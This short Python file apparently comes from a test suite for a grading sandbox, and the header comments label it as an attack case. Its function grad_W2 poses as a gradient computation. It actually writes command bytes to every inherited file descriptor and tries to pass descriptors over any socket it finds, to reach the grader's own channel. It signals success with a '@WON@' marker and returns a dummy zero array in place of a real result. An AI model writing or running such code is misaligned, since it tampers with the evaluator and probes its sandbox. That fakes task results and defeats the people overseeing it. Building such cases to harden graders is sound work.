# attack: I7 sends orders and descriptors of its own through everything that it inherited
# gains nothing: grad_W2
import os as system
import socket

import numpy as np
WON = "@WON@"


def grad_W2(grad_oa, hs):
    for descriptor in range(256):
        for order in (b"W", b"F/tmp", b"", b"\x00" * 8):
            try:
                system.set_blocking(descriptor, False)
                system.write(descriptor, order)
            except OSError:
                pass
            try:
                connection = socket.socket(fileno=system.dup(descriptor))
                connection.setblocking(False)
                connection.sendmsg([order], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, b"\x00\x00\x00\x00")])
            except (OSError, ValueError):
                continue
            raise AssertionError(f"{WON} descriptor {descriptor} is a socket of the grader's")
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)
